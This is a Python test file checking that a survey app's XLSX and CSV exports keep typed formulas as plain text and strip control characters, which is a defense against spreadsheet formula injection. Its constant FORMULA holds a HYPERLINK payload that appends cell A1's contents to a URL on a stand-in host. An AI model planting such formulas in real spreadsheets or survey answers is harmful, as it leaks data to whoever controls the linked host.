"""Spreadsheet exports write what people typed as text (binome.core.spreadsheets)."""

import csv
from datetime import date
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from binome.core.spreadsheets import Spreadsheet
from binome.voice.models import Question
from tests.voice.factories import AnswerFactory, QuestionFactory, ResponseFactory, SurveyFactory

FORMULA = '=HYPERLINK("https://exemple.test/?d="&A1,"Cliquez")'
PASTED = "Trop d'attente\x0bau secrétariat\x01"


@pytest.mark.parametrize("streaming", [False, True])
def test_a_typed_formula_stays_text_and_control_characters_are_dropped(streaming):
    book = Spreadsheet(streaming=streaming)
    sheet = book.sheet("Réponses", header=["Texte", "Nombre", "Date"])
    book.row(sheet, [FORMULA, 3, date(2026, 12, 7)])
    sheet.append([PASTED, 4, None])  # the sheet's own append goes through the same rule
    book.header(sheet, ["=SUM(B2:B3)", 7])
    ws = load_workbook(BytesIO(book.to_bytes()))["Réponses"]
    rows = list(ws.iter_rows(min_row=2))
    assert rows[0][0].value == FORMULA and rows[0][0].data_type == "s"
    assert rows[0][1].value == 3 and rows[0][2].value.date() == date(2026, 12, 7)
    assert rows[1][0].value == "Trop d'attenteau secrétariat"
    assert rows[2][0].value == "=SUM(B2:B3)" and rows[2][0].data_type == "s"
    assert rows[2][0].font.b


@pytest.mark.django_db
def test_survey_exports_of_a_pasted_or_hostile_answer_answer_as_text(world):
    survey = SurveyFactory(structure=world.a)
    question = QuestionFactory(survey=survey, kind=Question.Kind.TEXT, label="Un mot ?")
    for text in (FORMULA, PASTED):
        AnswerFactory(
            response=ResponseFactory(survey=survey), question=question, value=None, text=text
        )
    client = world.client_for("coordinator")
    for name, sheet in (
        ("voice:survey_coding_xlsx", "Verbatims codés"),
        ("voice:survey_export_xlsx", "Réponses"),
    ):
        response = client.get(reverse(name, args=[survey.public_id]))
        assert response.status_code == 200, name
        ws = load_workbook(BytesIO(response.content))[sheet]
        cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
        formula = [c for c in cells if c.value == FORMULA]
        assert formula and all(c.data_type == "s" for c in formula), name
        assert any(c.value == "Trop d'attenteau secrétariat" for c in cells), name


@pytest.mark.django_db
def test_the_csv_export_of_a_hostile_answer_is_text_for_a_spreadsheet(world):
    survey = SurveyFactory(structure=world.a)
    question = QuestionFactory(survey=survey, kind=Question.Kind.TEXT, label="Un mot ?")
    for text in (FORMULA, "-2+3", "Rien à signaler"):
        AnswerFactory(
            response=ResponseFactory(survey=survey), question=question, value=None, text=text
        )
    response = world.client_for("coordinator").get(
        reverse("voice:survey_export_csv", args=[survey.public_id])
    )
    assert response.status_code == 200
    rows = list(csv.reader(StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert [row[-1] for row in rows[1:]] == ["'" + FORMULA, "'-2+3", "Rien à signaler"]
